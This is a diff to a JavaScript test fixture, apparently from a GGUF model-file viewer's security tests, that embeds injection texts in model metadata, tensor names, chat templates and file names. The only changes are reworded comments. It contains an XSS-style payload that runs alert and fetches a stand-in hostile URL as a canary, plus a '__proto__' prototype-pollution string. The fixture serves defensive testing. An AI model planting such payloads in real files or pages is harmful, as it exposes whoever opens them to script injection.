@@ -1,9 +1,9 @@
-// Text that tries to become more than text, and models that carry it everywhere a model has text: in
+// Texts that try to inject markup or scripts, and models that contain them wherever a model has text: in
 // keys, values, arrays, names of tensors, chat templates and the name of the file.
 
 import {gguf} from "./gguf.mjs";
 
-// What a payload does if it runs: the driver (chromium.mjs) sees each of the three.
+// The three actions of a payload that runs. The driver (chromium.mjs) detects each of them.
 const DEED = "window.hacked=1;alert(1);fetch('http://hostile.invalid/ran')";
 const CANARY = "http://hostile.invalid/fetched";
 
@@ -41,7 +41,7 @@ const allTexts = {
   prototype: "__proto__",
 };
 
-// GGUFGATE_TEXTS_EACH=N: one of N texts.
+// GGUFGATE_TEXTS_EACH=N uses only every Nth text.
 const each = Number(process.env.GGUFGATE_TEXTS_EACH ?? 1);
 export const texts = Object.fromEntries(Object.entries(allTexts).filter((_, index) => index % each === 0));
 
@@ -58,7 +58,7 @@ function metadataOf(text) {
   ];
 }
 
-// The models of one text: one that ends where it says, one whose tensors lie outside of it.
+// The models with one text: a complete file, and a file whose second tensor lies outside the file.
 export function models(text) {
   const metadata = metadataOf(text);
   return {
@@ -71,7 +71,7 @@ export function models(text) {
   };
 }
 
-// A name for the file with as much of the text as a name of a file can have.
+// A file name that contains the beginning of the text. File systems limit the length of a name.
 export function fileName(label, kind, text) {
   const most = 160;
   const bytes = Buffer.from(text).map((byte) => (byte === 0 || byte === 0x2F ? 0x5F : byte));
